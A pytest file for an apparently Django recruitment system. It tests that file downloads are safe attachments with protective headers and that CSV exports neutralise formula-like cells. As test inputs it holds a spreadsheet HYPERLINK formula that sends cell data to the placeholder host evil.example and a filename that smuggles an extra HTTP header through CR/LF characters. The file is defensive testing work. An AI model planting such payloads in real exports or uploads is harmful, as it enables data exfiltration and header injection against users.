"""Every download view serves the file as an attachment with a safe filename, `nosniff` and
`private, no-store`; every CSV export neutralises formula-like cells (core.files, core.exports)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as HttpClient
from django.urls import reverse

from candidates.services import document_upload
from core.exports import csv_cell, csv_response
from privacy.services.subject_access import sar_build_export, sar_create
from tests.candidates.files import make_pdf
from tests.factories.candidates import CandidateFactory
from tests.factories.clients import ClientFactory
from tests.factories.compliance import dbs_body, right_to_work_body
from tests.factories.engagement import ComplaintFactory
from tests.factories.matching import approved_entry, submission_consent_give
from tests.factories.vacancies import VacancyFactory
from vacancies.services.shortlists import shortlist_share

PDF = make_pdf("evidence")
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
TODAY = datetime.date.today()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_safe_download(response, filename: str) -> None:
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and filename in disposition, disposition
    assert "\n" not in disposition and "\r" not in disposition
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


@pytest.fixture
def candidate(recruiter):
    return CandidateFactory(owner=recruiter, first_name="Jordan", last_name="Ellis")


def test_candidate_document_download_is_a_safe_attachment(client, recruiter, candidate):
    document = document_upload(
        actor=recruiter, candidate=candidate, upload=io.BytesIO(PDF), filename='cv"\r\nX-Evil: 1".pdf'
    )
    client.force_login(recruiter)
    response = client.get(reverse("candidates:document-download", args=[candidate.pk, document.pk]))
    assert_safe_download(response, 'filename="cv\\"X-Evil: 1\\".pdf"')
    assert response["Content-Type"] == "application/pdf" and body_of(response) == PDF
    assert "X-Evil" not in response.headers


def test_non_ascii_names_are_sent_the_rfc_6266_way(client, recruiter, candidate):
    document = document_upload(
        actor=recruiter, candidate=candidate, upload=io.BytesIO(PDF), filename="Zoë CV.pdf"
    )
    client.force_login(recruiter)
    response = client.get(reverse("candidates:document-download", args=[candidate.pk, document.pk]))
    assert_safe_download(response, "filename*=utf-8''Zo%C3%AB%20CV.pdf")


def test_right_to_work_evidence_download_is_a_safe_attachment(api_as, client, recruiter, candidate):
    created = api_as(recruiter).post(
        "/api/v1/compliance/right-to-work/",
        right_to_work_body(
            candidate, evidence=SimpleUploadedFile("share-code result.pdf", PDF, content_type="text/html")
        ),
        format="multipart",
    )
    assert created.status_code == 201, created.json()
    client.force_login(recruiter)
    response = client.get(created.json()["evidence_url"])
    assert_safe_download(response, "share-code result.pdf")
    assert response["Content-Type"] == "application/pdf"


def test_dbs_certificate_download_is_a_safe_attachment(
    api_as, client, compliance_officer, candidate, settings
):
    settings.COMPLIANCE_DBS_KEEP_IMAGES = True
    created = api_as(compliance_officer).post(
        "/api/v1/compliance/dbs/",
        dbs_body(
            candidate,
            decision_on=TODAY.isoformat(),
            certificate_image=SimpleUploadedFile("scan.png", PNG, content_type="application/pdf"),
        ),
        format="multipart",
    )
    assert created.status_code == 201, created.json()
    client.force_login(compliance_officer)
    response = client.get(reverse("compliance:dbs-image", args=[created.json()["id"]]))
    assert_safe_download(response, f'filename="dbs-certificate-{created.json()["id"]}.png"')
    assert response["Content-Type"] == "image/png"


def test_signed_terms_downloads_page_and_api_are_safe_attachments(api_as, client, recruiter):
    acme = ClientFactory(owner=recruiter)
    api = api_as(recruiter)
    created = api.post(
        f"/api/v1/clients/{acme.pk}/terms/",
        {"fee_percent": "20", "document": SimpleUploadedFile("terms.pdf", PDF)},
        format="multipart",
    )
    assert created.status_code == 201, created.json()
    terms_id = created.json()["id"]
    assert_safe_download(api.get(f"/api/v1/clients/{acme.pk}/terms/{terms_id}/document/"), "terms-")
    client.force_login(recruiter)
    assert_safe_download(client.get(reverse("clients:terms_document", args=[acme.pk, terms_id])), "terms-")


@pytest.mark.parametrize("blind", [False, True])
def test_client_review_cv_is_a_safe_attachment_with_a_neutral_name(recruiter, manager, candidate, blind):
    vacancy = VacancyFactory(client=ClientFactory(owner=recruiter), owner=recruiter, blind_shortlist=blind)
    entry = approved_entry(vacancy=vacancy, candidate=candidate, reviewer=manager)
    submission_consent_give(vacancy=vacancy, candidate=candidate)  # Conduct Regs reg 19
    document_upload(actor=recruiter, candidate=candidate, upload=io.BytesIO(PDF), filename="Jordan Ellis.pdf")
    _, token = shortlist_share(actor=recruiter, shortlist=entry.shortlist)
    response = HttpClient().get(reverse("portal:client_review_cv", args=[token, entry.pk]))
    assert_safe_download(response, f'filename="candidate-1-cv.{"txt" if blind else "pdf"}"')
    assert "Jordan" not in response["Content-Disposition"]
    assert response["X-Robots-Tag"] == "noindex, nofollow"


def test_subject_access_export_download_is_a_safe_attachment(client, admin_user, candidate):
    sar = sar_create(actor=admin_user, candidate=candidate, received_on=TODAY)
    sar = sar_build_export(sar_id=sar.pk)
    client.force_login(admin_user)
    response = client.get(reverse("privacy:sar_download", args=[sar.pk]))
    assert_safe_download(response, f'filename="subject-access-{sar.pk}.zip"')
    assert response["Content-Type"] == "application/zip"


# --- CSV exports


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body_of(response).decode())))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Plain text", "Plain text"),
        ("", ""),
        (None, ""),
        (-5, -5),  # numbers stay numbers: they cannot carry a formula
    ],
)
def test_formula_like_text_cells_are_neutralised(value, written):
    assert csv_cell(value) == written


def test_csv_response_neutralises_every_cell_and_is_a_safe_attachment():
    response = csv_response(filename="x.csv", header=["name", "count"], rows=[[FORMULA, -3]])
    assert_safe_download(response, 'filename="x.csv"')
    assert rows_of(response) == [["name", "count"], ["'" + FORMULA, "-3"]]


def test_candidate_export_neutralises_formulas(client, manager, candidate):
    candidate.first_name, candidate.summary, candidate.town = FORMULA, "@SUM(1)", "-Leeds"
    candidate.save()
    client.force_login(manager)
    response = client.get(reverse("candidates:export"))
    assert_safe_download(response, 'filename="candidates.csv"')
    text = body_of(response).decode()
    assert "'" + FORMULA.replace('"', '""') in text and "'-Leeds" in text
    for row in rows_of(response)[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_complaints_export_neutralises_formulas(client, manager, recruiter):
    ComplaintFactory(actor=recruiter, complainant_name=FORMULA, resolution="+1 called back")
    client.force_login(manager)
    response = client.get(reverse("engagement:complaint-export"))
    assert_safe_download(response, 'filename="complaints.csv"')
    rows = rows_of(response)
    assert len(rows) == 2
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


@pytest.mark.parametrize(
    "figure", ["times", "complaints", "diversity", "funnel", "placements", "sources", "cadence", "nps"]
)
def test_manager_dashboard_csvs_are_safe_attachments(client, manager, figure):
    client.force_login(manager)
    response = client.get(reverse("manager-dashboard"), {"csv": figure})
    assert_safe_download(response, f'filename="{figure}.csv"')
    for row in rows_of(response)[1:]:
        assert not any(isinstance(cell, str) and cell.startswith(("=", "@")) for cell in row)
